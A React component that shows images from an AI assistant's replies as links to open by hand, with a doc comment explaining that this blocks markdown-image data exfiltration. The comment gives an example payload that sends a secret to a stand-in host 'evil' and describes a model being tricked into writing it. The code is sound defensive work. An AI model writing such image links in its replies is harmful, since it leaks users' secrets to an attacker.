import { safeImageUrl } from './safe-url';

/**
 * An image from a reply, shown as a link the person may open in a tab of its own. Loading an image
 * is a request to wherever its URL points, so a model tricked into writing `![](https://evil/?q=secret)`
 * must not be able to send anything anywhere on its own; and the console's CSP (`img-src 'self' data:
 * blob:`) loads no remote image inside the page at all, so nothing in a reply can track who reads it.
 */
export function DeferredImage({ src, alt }: { src?: string; alt?: string }) {
  const url = src ? safeImageUrl(src) : undefined;
  const label = alt?.trim() || 'Image';
  if (!url) {
    return (
      <span className="image-placeholder is-blocked" title="This image's address is not allowed">
        {label} (image not shown)
      </span>
    );
  }
  const host = new URL(url).host;
  return (
    <a
      className="image-placeholder"
      href={url}
      target="_blank"
      rel="noopener noreferrer"
      aria-label={`Open image “${label}” from ${host} in a new tab`}
      title={url}
    >
      <span className="image-placeholder-label">Image: {label}</span>
      <span className="muted">{host}</span>
      <span className="image-placeholder-action">Open</span>
    </a>
  );
}
